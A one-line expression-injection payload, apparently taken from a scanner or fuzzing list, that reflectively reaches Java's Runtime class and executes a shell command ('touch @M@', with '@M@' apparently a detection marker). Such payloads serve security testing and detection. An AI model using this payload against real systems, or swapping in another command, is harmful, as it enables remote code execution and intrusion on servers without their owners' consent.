[].class.forName('java.lang.Runtime').runtime.exec('touch @M@')
